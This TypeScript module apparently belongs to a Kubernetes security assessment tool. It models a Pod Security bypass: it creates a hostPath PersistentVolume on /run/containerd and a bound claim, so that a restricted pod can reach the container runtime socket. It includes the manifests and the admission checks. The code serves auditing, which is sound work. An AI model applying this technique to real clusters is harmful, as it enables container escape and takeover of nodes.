import { admits } from '../../../admission/layers.ts';
import type { AdmissionRequest } from '../../../admission/request/request.ts';
import { inTurn } from '../../../answer/command.ts';
import { allOf } from '../../../answer/verdict.ts';
import type { Raw } from '../../../world/raw.ts';
import { applyCommand, createCommand } from '../../commands/commands.ts';
import { PROBE_NAME, VOLUME_CLAIM_PROBE } from '../../probes/probes.ts';
import { covering, rightsToCreate, userOf } from '../../rights/holder.ts';
import type { BypassTechnique } from './step.ts';

/**
 * Creates a PersistentVolume that is a directory of the node, and a claim of it. No level of Pod Security looks behind
 * a claim, so that a pod of the restricted level, as a user of group 0, opens the socket of the runtime there. The
 * source of a volume is immutable, so that changing one is no bypass.
 */
export const volume: BypassTechnique = {
  id: 'pv-hostpath',
  isHeld: (holder) => rightsToCreate(VOLUMES, holder).length > 0,
  steps: (holder, namespace, _refusals, { world }) => {
    const volumes = rightsToCreate(VOLUMES, holder)[0];
    const claims =
      volumes && covering(rightsToCreate({ group: '', resource: 'persistentvolumeclaims' }, holder), namespace);
    if (!volumes || !claims) return [];
    const name = volumes.names?.[0] ?? PROBE_NAME;
    const [pv, pvc] = objects(name, namespace);
    const user = userOf(holder);
    const writes = [
      write('PersistentVolume', 'persistentvolumes', '', pv),
      write('PersistentVolumeClaim', 'persistentvolumeclaims', namespace, pvc),
    ];
    const admission = allOf(writes.map((each) => admits({ ...each, user }, world)));
    if (admission.value === 'no') return [];
    const attack = inTurn([volumes.names === null ? createCommand(pv) : applyCommand(pv), createCommand(pvc)]);
    if (!attack) return [];
    return [
      {
        id: volume.id,
        words: 'create a hostPath PersistentVolume, and a claim of it',
        attack,
        rights: [volumes, claims],
        admission,
        change: (before) => before,
        probes: [VOLUME_CLAIM_PROBE],
        key: volume.id,
      },
    ];
  },
};

const VOLUMES = { group: '', resource: 'persistentvolumes', clusterScoped: true } as const;

const objects = (name: string, namespace: string): [Raw, Raw] => {
  const size = { storage: '1Gi' };
  return [
    {
      apiVersion: 'v1',
      kind: 'PersistentVolume',
      metadata: { name },
      spec: {
        ...{ capacity: size, accessModes: ['ReadWriteOnce'], storageClassName: '' },
        hostPath: { path: '/run/containerd' },
        claimRef: { namespace, name: PROBE_NAME },
      },
    },
    {
      apiVersion: 'v1',
      kind: 'PersistentVolumeClaim',
      metadata: { name: PROBE_NAME, namespace },
      spec: { accessModes: ['ReadWriteOnce'], storageClassName: '', volumeName: name, resources: { requests: size } },
    },
  ];
};

const write = (kind: string, resource: string, namespace: string, object: Raw): Omit<AdmissionRequest, 'user'> => ({
  operation: 'CREATE',
  kind: { group: '', version: 'v1', kind },
  resource: { group: '', version: 'v1', resource },
  ...{ subresource: '', namespace, name: PROBE_NAME, object, oldObject: null },
});
